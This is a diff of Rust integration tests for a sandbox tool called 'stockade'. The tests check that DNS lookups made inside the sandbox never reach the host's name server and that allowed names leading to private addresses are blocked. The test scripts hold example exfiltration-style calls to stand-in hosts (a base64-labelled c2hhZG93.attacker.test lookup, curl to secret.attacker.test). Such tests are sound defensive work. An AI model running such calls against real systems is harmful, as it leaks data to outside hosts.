@@ -10,7 +10,7 @@ use std::{
     net::{IpAddr, Ipv4Addr, Ipv6Addr, TcpListener, UdpSocket},
 };
 
-use crate::host::{Host, eventually, finish, has, skip};
+use crate::host::{Host, Outcome, eventually, finish, has, skip};
 
 /// A host whose repository holds the scripts; nothing without perl.
 fn host_with_scripts() -> Option<Host> {
@@ -168,24 +168,42 @@ until grep -qs ready "$1/questions"; do kill -0 $server || exit 77; sleep 0.01; 
 shift; "$@"
 "#;
 
-#[test]
-fn g2_names_are_answered_inside_and_the_hosts_name_server_is_asked_nothing() {
-    let host = Host::new();
-    let folder = host.path("names");
-    fs::create_dir(&folder).unwrap();
-    let server = include_str!("scripts/name-server.pl");
-    fs::write(folder.join("name-server.pl"), server).unwrap();
-    let folder = folder.to_str().unwrap();
-    let questions = || fs::read_to_string(host.path("names/questions")).unwrap_or_default();
+/// A host in a network of its own, whose name server is that script.
+struct Watched(Host);
 
-    let in_own_network = |command: &[&str]| {
-        let mut unshare = host.other_command("unshare");
+impl Watched {
+    /// Nothing, and the reason said, where no such network can be made.
+    fn start(what: &str) -> Option<Self> {
+        let host = Host::new();
+        let folder = host.path("names");
+        fs::create_dir(&folder).unwrap();
+        let server = include_str!("scripts/name-server.pl");
+        fs::write(folder.join("name-server.pl"), server).unwrap();
+        let watched = Self(host);
+        // The host's own question is noted: the control.
+        let control = watched.run(&["getent", "ahosts", "control.example"]);
+        if watched.questions().contains("asked control.example.") {
+            return Some(watched);
+        }
+        let reason = format!("no network of its own to watch: {}", control.stderr);
+        skip(what, &reason);
+        None
+    }
+
+    fn questions(&self) -> String {
+        fs::read_to_string(self.0.path("names/questions")).unwrap_or_default()
+    }
+
+    /// Runs a command there.
+    fn run(&self, command: &[&str]) -> Outcome {
+        let mut unshare = self.0.other_command("unshare");
         if host::is_root() {
             unshare.args(["--net", "--mount"]);
         } else {
             unshare.args(["--user", "--map-root-user", "--net", "--mount"]);
         }
-        unshare.args(["--", "sh", "-c", WITH_NAME_SERVER, "sh", folder]);
+        unshare.args(["--", "sh", "-c", WITH_NAME_SERVER, "sh"]);
+        unshare.arg(self.0.path("names"));
         if !host::is_root() {
             // Stockade shall take itself for what it is, an ordinary user's.
             unshare.args([
@@ -196,26 +214,33 @@ fn g2_names_are_answered_inside_and_the_hosts_name_server_is_asked_nothing() {
                 "--",
             ]);
         }
-        finish({
-            unshare.args(command);
-            unshare
-        })
-    };
-    // The host's own question is noted: the control.
-    let control = in_own_network(&["getent", "ahosts", "control.example"]);
-    if !questions().contains("asked control.example.") {
-        let reason = format!("no network of its own to watch: {}", control.stderr);
-        return skip("what the host's name server is asked", &reason);
+        unshare.args(command);
+        finish(unshare)
     }
-    let before = questions();
+
+    /// Runs `script` as a task there, with further words for `run`; what it
+    /// prints, and what the name server noted meanwhile.
+    fn task(&self, words: &[&str], script: &str) -> (Outcome, String) {
+        let before = self.questions();
+        let stockade = env!("CARGO_BIN_EXE_stockade");
+        let run = [&[stockade, "run"], words, &["--", "bash", "-c", script]].concat();
+        let outcome = self.run(&run);
+        assert_eq!(outcome.code, 0, "{outcome:?}");
+        let after = self.questions();
+        let meanwhile = after.trim_start_matches(before.as_str()).to_owned();
+        (outcome, meanwhile)
+    }
+}
+
+#[test]
+fn g2_names_are_answered_inside_and_the_hosts_name_server_is_asked_nothing() {
+    let Some(watched) = Watched::start("what the host's name server is asked") else {
+        return;
+    };
     let script = "for n in anything.example another.example c2hhZG93.attacker.test; do getent ahostsv4 $n | head -1; done; \
         curl -s --max-time 10 -o /dev/null -w '%{http_code}\\n' https://secret.attacker.test/ || echo 403; \
         perl -MSocket -e '$_ = gethostbyname(\"perl.attacker.test\") and print inet_ntoa($_), \"\\n\"'";
-    let stockade = env!("CARGO_BIN_EXE_stockade");
-    let outcome = in_own_network(&[stockade, "run", "--", "bash", "-c", script]);
-    assert_eq!(outcome.code, 0, "{outcome:?}");
-    let after = questions();
-    let asked = after.trim_start_matches(before.as_str());
+    let (outcome, asked) = watched.task(&[], script);
     assert_eq!(asked, "ready\n", "the host's name server was asked");
 
     let lines: Vec<&str> = outcome.stdout.lines().collect();
@@ -229,6 +254,35 @@ fn g2_names_are_answered_inside_and_the_hosts_name_server_is_asked_nothing() {
     answers.sort_unstable();
     answers.dedup();
     assert_eq!(answers.len(), 4, "one address for each name: {outcome:?}");
+}
+
+#[test]
+fn g2_allowed_names_that_lead_inwards_by_an_alias_among_others_or_later_are_not_followed() {
+    if !has("curl") {
+        return skip("names that lead inwards", "curl is not installed");
+    }
+    let Some(watched) = Watched::start("names that lead inwards") else {
+        return;
+    };
+    let words = ["--allow", "*.example", "--yes"];
+    let script = "for n in alias mixed turning turning; do \
+        curl -s --max-time 50 -D - -o /dev/null https://$n.example/ | grep -iE '^(HTTP|x-stockade-reason)' | tr -d '\\r' | tr '\\n' ' '; \
+        echo $n; done";
+    let (outcome, noted) = watched.task(&words, script);
+    let lines: Vec<&str> = outcome.stdout.lines().collect();
+    let unreachable = "x-stockade-reason: upstream";
+    for (line, expected) in lines.iter().zip([
+        "x-stockade-reason: network.private-address alias",
+        // The public one was dialled, which no way leads to here.
+        &format!("{unreachable} mixed"),
+        &format!("{unreachable} turning"),
+        "x-stockade-reason: network.private-address turning",
+    ]) {
+        assert!(line.ends_with(expected), "{expected}: {outcome:?}");
+    }
+    assert_eq!(lines.len(), 4, "{outcome:?}");
+    assert!(noted.contains("asked mixed.example."), "{noted}");
+    assert!(!noted.contains("knocked"), "{noted}");
 }
 
 #[test]
